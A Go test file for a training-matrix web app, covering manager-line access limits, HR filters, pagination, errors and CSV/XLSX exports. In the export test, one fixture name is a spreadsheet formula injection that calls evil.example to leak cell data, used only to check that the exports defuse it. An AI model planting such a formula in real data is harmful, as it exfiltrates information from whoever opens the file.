package app_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/uptrace/bun"
	"github.com/xuri/excelize/v2"

	"github.com/serviceacademy/academy/courses"
	"github.com/serviceacademy/academy/people"
)

// matrixCell is a cell as a test reads it from the page.
type matrixCell struct {
	State, Icon, Text, ISO string
}

// matrixCells returns the cells of one employee's row by course slug, one
// per column; the test fails without the row.
func matrixCells(t *testing.T, d *goquery.Document, number string) map[string]matrixCell {
	t.Helper()
	tr := d.Find(`table#matrix tbody tr[data-employee="` + number + `"]`)
	if tr.Length() != 1 {
		t.Fatalf("%d rows for %s", tr.Length(), number)
	}
	out := map[string]matrixCell{}
	tr.Find("td.cell").Each(func(_ int, td *goquery.Selection) {
		slug, _ := td.Attr("data-course")
		state, _ := td.Attr("data-state")
		iso, _ := td.Find("time").Attr("datetime")
		out[slug] = matrixCell{State: state, Icon: td.Find(`.cell-icon[aria-hidden="true"]`).Text(),
			Text: strings.Join(strings.Fields(td.Text()), " "), ISO: iso}
	})
	if cols := d.Find("table#matrix thead th.course").Length(); len(out) != cols || cols == 0 {
		t.Fatalf("%s: %d cells for %d courses", number, len(out), cols)
	}
	return out
}

// matrixNumbers lists the employee numbers of a page's rows, in order.
func matrixNumbers(d *goquery.Document) []string {
	var out []string
	d.Find("table#matrix tbody tr").Each(func(_ int, tr *goquery.Selection) {
		n, _ := tr.Attr("data-employee")
		out = append(out, n)
	})
	return out
}

// assignedNumbers lists, by name, who holds an open assignment of the
// programme, below the manager's line path when line is set.
func assignedNumbers(t *testing.T, db *bun.DB, programme, lineOf string) []string {
	t.Helper()
	q := db.NewSelect().TableExpr("assignments AS a").ColumnExpr("e.number").
		Join("JOIN employees AS e ON e.id = a.employee_id").Join("JOIN programmes AS p ON p.id = a.programme_id").
		Where("p.slug = ? AND a.closed_at IS NULL", programme).OrderExpr("e.last_name, e.first_name, e.number")
	if lineOf != "" {
		var path string
		if err := db.NewSelect().TableExpr("employees").Column("line_path").Where("number = ?", lineOf).Scan(context.Background(), &path); err != nil {
			t.Fatal(err)
		}
		q = q.Where("e.line_path > ? AND e.line_path < ?", path, path+":")
	}
	var out []string
	if err := q.Scan(context.Background(), &out); err != nil {
		t.Fatal(err)
	}
	return out
}

// newestCompletion is the newest completion of a course by an employee.
func newestCompletion(t *testing.T, db *bun.DB, number, slug string) time.Time {
	t.Helper()
	var at time.Time
	if err := db.NewSelect().TableExpr("course_completions AS cc").ColumnExpr("MAX(cc.completed_at)").
		Join("JOIN employees AS e ON e.id = cc.employee_id").Where("e.number = ? AND cc.course_slug = ?", number, slug).
		Scan(context.Background(), &at); err != nil {
		t.Fatalf("newest completion of %s by %s: %v", slug, number, err)
	}
	return at
}

func london(t *testing.T) *time.Location {
	t.Helper()
	loc, err := time.LoadLocation("Europe/London") // the demo company's time zone
	if err != nil {
		t.Fatal(err)
	}
	return loc
}

// shown is a date as the matrix shows it: "3 Nov" this year, "3 Nov 2025" before.
func shown(t time.Time, loc *time.Location) string {
	if t.In(loc).Year() == time.Now().In(loc).Year() {
		return t.In(loc).Format("2 Jan")
	}
	return t.In(loc).Format("2 Jan 2006")
}

func getDoc(t *testing.T, c *client, path string, want int) *goquery.Document {
	t.Helper()
	resp, body := c.get(path)
	if resp.StatusCode != want {
		t.Fatalf("GET %s: status %d, want %d\n%.2000s", path, resp.StatusCode, want, body)
	}
	return doc(t, body)
}

// TestMatrixManager: the contact centre manager's matrix of the contact
// centre programme: his line only, the courses required first, each cell
// an icon and words (with the completion's date), sticky header and name
// column, the exports linked with the same filters.
func TestMatrixManager(t *testing.T) {
	ts := mustServer(t, "sqlite")
	loc := london(t)
	dk := ts.client(t)
	dk.signIn(ccMgrEmail)
	const prog = "contact-centre-excellence"
	d := getDoc(t, dk, "/matrix?programme="+prog, 200)

	if h1 := d.Find("h1").Text(); !strings.Contains(h1, "Contact Centre Excellence") {
		t.Errorf("h1 %q", h1)
	}
	// Columns: the required courses first, each marked, then the optional one.
	var cols []string
	d.Find("table#matrix thead th.course").Each(func(_ int, th *goquery.Selection) {
		slug, _ := th.Attr("data-course")
		cols = append(cols, slug+":"+strings.TrimSpace(th.Find(".badge").Text()))
	})
	wantCols := []string{"mission-vision-promise:required", "promises-timelines:required", "empathy-difficult-customers:required", "customer-world:optional"}
	if !slices.Equal(cols, wantCols) {
		t.Errorf("columns %q, want %q", cols, wantCols)
	}
	// Rows: exactly his line's assignments, by name; not himself, not the receptionist.
	want := assignedNumbers(t, ts.DB, prog, "BW1012")
	got := matrixNumbers(d)
	if !slices.Equal(got, want) || len(got) == 0 {
		t.Errorf("rows %q, want his line %q", got, want)
	}
	if slices.Contains(got, "BW1012") || slices.Contains(got, staffNumber) {
		t.Errorf("rows include the manager or someone outside his line: %q", got)
	}
	if n := d.Find("#matrix-count").Text(); !strings.HasPrefix(n, fmt.Sprintf("%d people.", len(want))) {
		t.Errorf("count %q, want %d people", n, len(want))
	}

	// Luca Bianchi finished the three required courses: done, with their dates.
	luca := matrixCells(t, d, "BW1135")
	for _, slug := range []string{"mission-vision-promise", "promises-timelines", "empathy-difficult-customers"} {
		at := newestCompletion(t, ts.DB, "BW1135", slug)
		c := luca[slug]
		if c.State != "done" || c.Icon != "✓" || c.Text != "✓ Done "+shown(at, loc) || c.ISO != at.In(loc).Format(time.DateOnly) {
			t.Errorf("BW1135 %s: %+v, want ✓ Done %s (%s)", slug, c, shown(at, loc), at.In(loc).Format(time.DateOnly))
		}
	}
	if c := luca["customer-world"]; c.State != "not_started" || c.Text != "○ Not started" {
		t.Errorf("BW1135 optional course: %+v", c)
	}
	row := d.Find(`tr[data-employee="BW1135"]`)
	if st, _ := row.Find("[data-status]").Attr("data-status"); st != "completed" || !strings.Contains(row.Find("[data-status]").Text(), "Completed") {
		t.Errorf("BW1135 programme status %q %q", st, row.Find("[data-status]").Text())
	}
	if r := strings.Join(strings.Fields(row.Find("td").Eq(1).Text()), " "); r != "✓ Ready" {
		t.Errorf("BW1135 readiness %q, want ✓ Ready", r)
	}
	// Harvey Cook is part-way through the first course and has not begun the others.
	harvey := matrixCells(t, d, "BW1133")
	if c := harvey["mission-vision-promise"]; c.State != "in_progress" || c.Text != "◐ In progress" {
		t.Errorf("BW1133 mission course: %+v, want ◐ In progress", c)
	}
	if c := harvey["promises-timelines"]; c.State != "not_started" || c.Icon != "○" || c.Text != "○ Not started" {
		t.Errorf("BW1133 promises course: %+v, want ○ Not started", c)
	}
	// Every cell carries an icon (hidden from screen readers) and words.
	d.Find("table#matrix td.cell").Each(func(_ int, td *goquery.Selection) {
		icon := td.Find(`.cell-icon[aria-hidden="true"]`).Text()
		if icon == "" || strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(td.Text()), icon)) == "" {
			t.Errorf("a cell without an icon or words: %q", td.Text())
		}
	})

	// The sticky header and name column: the classes on the page, the rules in the CSS.
	if d.Find(`.table-wrap.matrix-frame[tabindex="0"][role="region"] > table.matrix`).Length() != 1 {
		t.Error("the matrix is not inside a focusable .table-wrap.matrix-frame")
	}
	if n := d.Find("table#matrix thead th.sticky-col").Length(); n != 1 {
		t.Errorf("%d sticky header name cells", n)
	}
	if n, rows := d.Find(`table#matrix tbody th.sticky-col[scope="row"]`).Length(), len(got); n != rows {
		t.Errorf("%d sticky name cells for %d rows", n, rows)
	}
	_, css := dk.get("/static/css/app.css")
	for _, rule := range []string{`table\.matrix thead th \{[^}]*position: sticky; top: 0`, `table\.matrix \.sticky-col \{[^}]*position: sticky; left: 0`, `\.matrix-frame \{[^}]*overflow: auto`} {
		if !regexp.MustCompile(rule).MatchString(css) {
			t.Errorf("app.css has no rule matching %s", rule)
		}
	}
	if d.Find("[style]").Length() > 0 {
		t.Error("inline styles (the CSP forbids them)")
	}
	// The exports keep the filters.
	if href, _ := d.Find("#matrix-csv").Attr("href"); href != "/matrix.csv?programme="+prog {
		t.Errorf("CSV link %q", href)
	}
	if href, _ := d.Find("#matrix-xlsx").Attr("href"); href != "/matrix.xlsx?programme="+prog {
		t.Errorf("XLSX link %q", href)
	}
	// The navigation and the home page lead here.
	if d.Find(`#site-nav a[href="/matrix"][aria-current="page"]`).Length() != 1 {
		t.Error("no current Matrix link in the navigation")
	}
	home := getDoc(t, dk, "/", 200)
	if home.Find(`a#home-matrix[href="/matrix"]`).Length() != 1 {
		t.Error("the manager's home page does not link to the matrix")
	}
	// Without a programme chosen, the matrix opens on the first one, with
	// the chooser listing the others.
	choose := getDoc(t, dk, "/matrix", 200)
	if choose.Find("#f-programme option").Length() < 5 || choose.Find("table#matrix").Length() != 1 {
		t.Error("the chooser lists no programmes, or the page shows no matrix")
	}
	if sel, _ := choose.Find("#f-programme option[selected]").Attr("value"); sel == "" {
		t.Error("no programme is selected in the chooser")
	}
}

// TestMatrixManagerSeesOnlyHisLine: everyone has the induction; the
// contact centre manager's page, CSV and XLSX name his line only.
func TestMatrixManagerSeesOnlyHisLine(t *testing.T) {
	ts := mustServer(t, "sqlite")
	dk := ts.client(t)
	dk.signIn(ccMgrEmail)
	want := assignedNumbers(t, ts.DB, "induction", "BW1012")
	all := assignedNumbers(t, ts.DB, "induction", "")
	if !slices.Contains(all, staffNumber) || len(want) >= len(all) {
		t.Fatalf("fixture: %s should hold the induction outside his line (%d of %d)", staffNumber, len(want), len(all))
	}

	d := getDoc(t, dk, "/matrix?programme=induction&limit=500", 200)
	if got := matrixNumbers(d); !slices.Equal(got, want) {
		t.Errorf("page rows %q, want %q", got, want)
	}
	if strings.Contains(d.Text(), staffNumber) || strings.Contains(d.Text(), "Aisha Khan") {
		t.Errorf("the page names %s", staffNumber)
	}

	resp, body := dk.get("/matrix.csv?programme=induction")
	if resp.StatusCode != 200 {
		t.Fatalf("CSV: %d %.300s", resp.StatusCode, body)
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var nums []string
	for _, r := range rows[1:] {
		nums = append(nums, r[0])
	}
	if !slices.Equal(nums, want) || strings.Contains(body, staffNumber) {
		t.Errorf("CSV rows %q, want %q", nums, want)
	}

	resp, body = dk.get("/matrix.xlsx?programme=induction")
	if resp.StatusCode != 200 {
		t.Fatalf("XLSX: %d", resp.StatusCode)
	}
	book := openXLSX(t, body)
	sheet, err := book.GetRows("Matrix")
	if err != nil {
		t.Fatal(err)
	}
	nums = nil
	for _, r := range sheet[1:] {
		nums = append(nums, r[0])
		if slices.Contains(r, staffNumber) || slices.Contains(r, "Aisha Khan") {
			t.Errorf("XLSX row names %s: %q", staffNumber, r)
		}
	}
	if !slices.Equal(nums, want) {
		t.Errorf("XLSX rows %q, want %q", nums, want)
	}

	// A manager outside his line, or a cursor past his line, shows nothing more.
	if d := getDoc(t, dk, "/matrix?programme=induction&manager="+staffNumber, 422); !strings.Contains(d.Find("#e-manager").Text(), "not") && !strings.Contains(d.Find("#e-manager").Text(), "No employee") {
		t.Errorf("manager outside the line: %q", d.Find("#e-manager").Text())
	}
	if resp, _ := dk.get("/matrix.csv?programme=induction&manager=" + staffNumber); resp.StatusCode != 422 {
		t.Errorf("CSV of a manager outside his line: %d, want 422", resp.StatusCode)
	}
	// A team leader in his line narrows it to theirs.
	d = getDoc(t, dk, "/matrix?programme=induction&manager=BW1132", 200)
	if got, want := matrixNumbers(d), assignedNumbers(t, ts.DB, "induction", "BW1132"); !slices.Equal(got, want) || len(got) == 0 {
		t.Errorf("BW1132's line: %q, want %q", got, want)
	}
}

func openXLSX(t *testing.T, body string) *excelize.File {
	t.Helper()
	book, err := excelize.OpenReader(bytes.NewReader([]byte(body)))
	if err != nil {
		t.Fatalf("not a spreadsheet: %v", err)
	}
	t.Cleanup(func() { book.Close() })
	return book
}

// TestMatrixHR: HR see everyone, pages by name give every row once, and
// the filters (a manager's line, a department, a location) narrow them.
func TestMatrixHR(t *testing.T) {
	ts := mustServer(t, "sqlite")
	hr := ts.client(t)
	hr.signIn(hrEmail)

	t.Run("PagesGiveEveryRowOnce", func(t *testing.T) {
		want := assignedNumbers(t, ts.DB, "induction", "")
		var got []string
		path, pages := "/matrix?programme=induction&limit=10", 0
		for path != "" {
			d := getDoc(t, hr, path, 200)
			nums := matrixNumbers(d)
			if len(nums) == 0 || len(nums) > 10 {
				t.Fatalf("%s: %d rows", path, len(nums))
			}
			got = append(got, nums...)
			pages++
			path, _ = d.Find("a#matrix-next").Attr("href")
			if pages > 1 && d.Find(`a#matrix-first[href="/matrix?limit=10&programme=induction"]`).Length() != 1 {
				t.Errorf("page %d has no link to the first page", pages)
			}
			if pages > 20 {
				t.Fatal("the pages do not end")
			}
		}
		if !slices.Equal(got, want) {
			t.Errorf("%d rows over %d pages, want %d by name:\n got %q\nwant %q", len(got), pages, len(want), got, want)
		}
		if pages != (len(want)+9)/10 {
			t.Errorf("%d pages for %d rows", pages, len(want))
		}
	})

	t.Run("Filters", func(t *testing.T) {
		ids := func(kind people.OrgKind) map[string]int64 {
			items, err := ts.People.ListOrg(context.Background(), kind)
			if err != nil {
				t.Fatal(err)
			}
			m := map[string]int64{}
			for _, it := range items {
				m[it.Name] = it.ID
			}
			return m
		}
		dept, locs := ids(people.Departments)["Contact Centre"], ids(people.Locations)["Leeds"]
		d := getDoc(t, hr, fmt.Sprintf("/matrix?programme=induction&limit=500&department=%d", dept), 200)
		rows := d.Find("table#matrix tbody tr")
		if rows.Length() == 0 {
			t.Fatal("nobody in the Contact Centre")
		}
		for _, n := range matrixNumbers(d) {
			e, _ := ts.People.FindEmployeeByNumber(context.Background(), n)
			if e.DepartmentID == nil || *e.DepartmentID != dept {
				t.Errorf("%s is not in the Contact Centre", n)
			}
		}
		d = getDoc(t, hr, fmt.Sprintf("/matrix?programme=induction&limit=500&location=%d", locs), 200)
		for _, n := range matrixNumbers(d) {
			e, _ := ts.People.FindEmployeeByNumber(context.Background(), n)
			if e.LocationID == nil || *e.LocationID != locs {
				t.Errorf("%s is not in Leeds", n)
			}
		}
		d = getDoc(t, hr, "/matrix?programme=induction&limit=500&manager=BW1012", 200)
		if got, want := matrixNumbers(d), assignedNumbers(t, ts.DB, "induction", "BW1012"); !slices.Equal(got, want) {
			t.Errorf("?manager=BW1012: %q, want %q", got, want)
		}
		if href, _ := d.Find("#matrix-csv").Attr("href"); href != "/matrix.csv?manager=BW1012&programme=induction" {
			t.Errorf("CSV link %q keeps the filters without the page", href)
		}
		// HR reach the matrix from the programme page.
		p := getDoc(t, hr, "/programmes/induction", 200)
		if href, _ := p.Find("a#programme-matrix").Attr("href"); href != "/matrix?programme=induction" {
			t.Errorf("programme page's matrix link %q", href)
		}
	})

	t.Run("OverdueExpiringExempt", func(t *testing.T) {
		loc := london(t)
		const prog = "field-service-excellence"
		// Ethan Turner has not started: HR exempt him.
		cs := courses.NewStore(ts.DB, courses.NoAssessments, courses.Options{})
		var cycleID int64
		if err := ts.DB.NewSelect().TableExpr("cycles AS cy").ColumnExpr("cy.id").Join("JOIN employees AS e ON e.id = cy.employee_id").
			Join("JOIN programmes AS p ON p.id = cy.programme_id").Where("e.number = 'BW1121' AND p.slug = ? AND cy.closed_at IS NULL", prog).
			OrderExpr("cy.cycle DESC").Limit(1).Scan(context.Background(), &cycleID); err != nil {
			t.Fatal(err)
		}
		if _, err := cs.SetExempt(context.Background(), cycleID, true, "On long-term leave", nil, "test"); err != nil {
			t.Fatal(err)
		}
		d := getDoc(t, hr, "/matrix?programme="+prog, 200)
		for slug, c := range matrixCells(t, d, "BW1122") { // Leah Cooper: nothing done, overdue
			if slug == "internal-customer" {
				if c.State != "not_started" {
					t.Errorf("BW1122's optional course: %+v, want not started (optional courses are never overdue)", c)
				}
				continue
			}
			if c.State != "overdue" || c.Text != "✕ Overdue" {
				t.Errorf("BW1122 %s: %+v, want ✕ Overdue", slug, c)
			}
		}
		// Noah Jackson is recertifying: last year's completions still count, expiring soon.
		noah := matrixCells(t, d, "BW1117")
		for _, slug := range []string{"mission-vision-promise", "service-recovery", "promises-timelines"} {
			done := newestCompletion(t, ts.DB, "BW1117", slug)
			exp := courses.ExpiryOf(done, 12, loc)
			c := noah[slug]
			if c.State != "expiring" || c.Icon != "!" || !strings.HasPrefix(c.Text, "! Expiring "+shown(*exp, loc)) || c.ISO != exp.In(loc).Format(time.DateOnly) {
				t.Errorf("BW1117 %s: %+v, want ! Expiring %s", slug, c, shown(*exp, loc))
			}
		}
		for slug, c := range matrixCells(t, d, "BW1121") {
			if c.State != "exempt" || c.Text != "– Exempt" {
				t.Errorf("BW1121 %s: %+v, want – Exempt", slug, c)
			}
		}
		if st, _ := d.Find(`tr[data-employee="BW1121"] [data-status]`).Attr("data-status"); st != "exempt" {
			t.Errorf("BW1121 programme status %q, want exempt", st)
		}
	})
}

// TestMatrixErrors: bad input is a message, never a 500.
func TestMatrixErrors(t *testing.T) {
	ts := mustServer(t, "sqlite")
	hr := ts.client(t)
	hr.signIn(hrEmail)
	for _, tc := range []struct {
		path, field, words string
		status             int
	}{
		{"/matrix?programme=no-such-programme", "programme", "There is no programme", 404},
		{"/matrix?programme=induction&after=not-a-cursor!", "after", "not one this matrix gave", 422},
		{"/matrix?programme=induction&after=" + url.QueryEscape("ImEiLCJiIg"), "after", "not one this matrix gave", 422},
		{"/matrix?programme=induction&limit=many", "limit", "Rows per page", 422},
		{"/matrix?programme=induction&limit=100000", "limit", "Rows per page", 422},
		{"/matrix?programme=induction&department=accounts", "department", "Choose a department", 422},
		{"/matrix?programme=induction&manager=NOPE", "manager", `No employee has the number "NOPE"`, 422},
		{"/matrix.csv", "programme", "Choose a programme", 422},
		{"/matrix.xlsx?programme=induction&location=-1", "location", "Choose a location", 422},
	} {
		d := getDoc(t, hr, tc.path, tc.status)
		msg := d.Find(".form-errors").Text() + d.Find("#e-"+tc.field+", #f-"+tc.field).Text()
		if !strings.Contains(msg, tc.words) {
			t.Errorf("%s: message %q, want %q", tc.path, msg, tc.words)
		}
		if d.Find("table#matrix").Length() != 0 {
			t.Errorf("%s: a table with the error", tc.path)
		}
	}
	for _, path := range []string{"/matrix.csv?programme=no-such-programme", "/matrix.xlsx?programme=no-such-programme"} {
		if resp, body := hr.get(path); resp.StatusCode != 404 || !strings.Contains(body, "There is no such programme.") {
			t.Errorf("%s: %d %.200s", path, resp.StatusCode, body)
		}
	}
}

// TestMatrixExports: the CSV and the spreadsheet hold the whole matrix in
// words, with the page's columns; a name a spreadsheet would run as a
// formula is defused in the CSV and plain text in the XLSX.
func TestMatrixExports(t *testing.T) {
	ts := mustServer(t, "sqlite")
	ctx := context.Background()
	loc := london(t)
	evil := `=HYPERLINK("http://evil.example/?d="&A1, "Click")`
	res, err := ts.People.SaveEmployee(ctx, people.EmployeeInput{Number: "BW9900", FirstName: evil, LastName: "Zed", Email: "zed@brightwater.example",
		JobTitle: "Contact Centre Advisor", Department: "Contact Centre", Location: "Leeds", ManagerNumber: "BW1132", HireDate: "2026-01-05", Active: true})
	if err != nil {
		t.Fatal(err)
	}
	cs := courses.NewStore(ts.DB, courses.NoAssessments, courses.Options{})
	if _, err := cs.Assign(ctx, courses.AssignRequest{Programme: "induction", EmployeeIDs: []int64{res.Employee.ID}, Actor: "test"}, false); err != nil {
		t.Fatal(err)
	}
	hr := ts.client(t)
	hr.signIn(hrEmail)
	want := assignedNumbers(t, ts.DB, "induction", "")
	today := time.Now().In(loc).Format(time.DateOnly)
	header := []string{"number", "name", "department", "location", "programme status", "readiness",
		"Our Mission, Vision and Service Promise (required)", "The Six Cs of a Customer-Focused Organisation (optional)"}

	t.Run("CSV", func(t *testing.T) {
		resp, body := hr.get("/matrix.csv?programme=induction")
		if resp.StatusCode != 200 {
			t.Fatalf("status %d %.300s", resp.StatusCode, body)
		}
		if ct := resp.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
			t.Errorf("content type %q", ct)
		}
		if cd := resp.Header.Get("Content-Disposition"); cd != `attachment; filename="matrix-induction-`+today+`.csv"` {
			t.Errorf("content disposition %q", cd)
		}
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("not CSV: %v", err)
		}
		if !slices.Equal(rows[0], header) {
			t.Errorf("header %q, want %q", rows[0], header)
		}
		var nums []string
		byNumber := map[string][]string{}
		for _, r := range rows[1:] {
			nums = append(nums, r[0])
			byNumber[r[0]] = r
		}
		if !slices.Equal(nums, want) {
			t.Errorf("%d rows, want everyone assigned (%d) by name", len(nums), len(want))
		}
		if got := byNumber["BW9900"]; len(got) != 8 || got[1] != "'"+evil+" Zed" || got[4] != "not started" || got[6] != "not started" {
			t.Errorf("the new starter's row %q: the name should start with a quote", got)
		}
		if strings.Contains(body, ",=HYPERLINK") || strings.Contains(body, "\"=HYPERLINK") {
			t.Error("a cell starts with a formula")
		}
		// Luca Bianchi's induction: done, on the day.
		at := newestCompletion(t, ts.DB, "BW1135", "mission-vision-promise")
		if got := byNumber["BW1135"]; got[1] != "Luca Bianchi" || got[2] != "Contact Centre" || got[3] != "Leeds" || got[6] != "done "+at.In(loc).Format(time.DateOnly) {
			t.Errorf("BW1135: %q, want done %s", got, at.In(loc).Format(time.DateOnly))
		}
		words := regexp.MustCompile(`^(done \d{4}-\d\d-\d\d|expiring \d{4}-\d\d-\d\d|expired \d{4}-\d\d-\d\d|in progress|not started|overdue|exempt|not in version)$`)
		for _, r := range rows[1:] {
			for _, cell := range r[6:] {
				if !words.MatchString(cell) {
					t.Errorf("%s: cell %q is not in words", r[0], cell)
				}
			}
		}
	})

	t.Run("XLSX", func(t *testing.T) {
		resp, body := hr.get("/matrix.xlsx?programme=induction")
		if resp.StatusCode != 200 {
			t.Fatalf("status %d %.300s", resp.StatusCode, body)
		}
		if ct := resp.Header.Get("Content-Type"); ct != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
			t.Errorf("content type %q", ct)
		}
		if cd := resp.Header.Get("Content-Disposition"); cd != `attachment; filename="matrix-induction-`+today+`.xlsx"` {
			t.Errorf("content disposition %q", cd)
		}
		book := openXLSX(t, body)
		if names := book.GetSheetList(); !slices.Equal(names, []string{"Matrix"}) {
			t.Errorf("sheets %q", names)
		}
		rows, err := book.GetRows("Matrix")
		if err != nil {
			t.Fatal(err)
		}
		if !slices.Equal(rows[0], header) {
			t.Errorf("header %q, want %q", rows[0], header)
		}
		if len(rows) != len(want)+1 {
			t.Errorf("%d rows, want a header and %d", len(rows), len(want))
		}
		style, err := book.GetCellStyle("Matrix", "A1")
		if err != nil {
			t.Fatal(err)
		}
		if s, err := book.GetStyle(style); err != nil || s.Font == nil || !s.Font.Bold {
			t.Errorf("the header is not bold: %+v %v", s, err)
		}
		panes, err := book.GetPanes("Matrix")
		if err != nil || !panes.Freeze || panes.YSplit != 1 || panes.XSplit != 2 {
			t.Errorf("panes %+v %v: want the header row and the names frozen", panes, err)
		}
		if w, err := book.GetColWidth("Matrix", "B"); err != nil || w != 28 {
			t.Errorf("name column width %v %v", w, err)
		}
		for i, r := range rows[1:] {
			if r[0] != "BW9900" {
				continue
			}
			cell, _ := excelize.CoordinatesToCellName(2, i+2)
			if r[1] != evil+" Zed" {
				t.Errorf("the new starter's name %q", r[1])
			}
			if f, err := book.GetCellFormula("Matrix", cell); err != nil || f != "" {
				t.Errorf("%s holds a formula %q %v", cell, f, err)
			}
			if typ, _ := book.GetCellType("Matrix", cell); typ != excelize.CellTypeInlineString {
				t.Errorf("%s has type %v, want an inline string", cell, typ)
			}
		}
	})
}
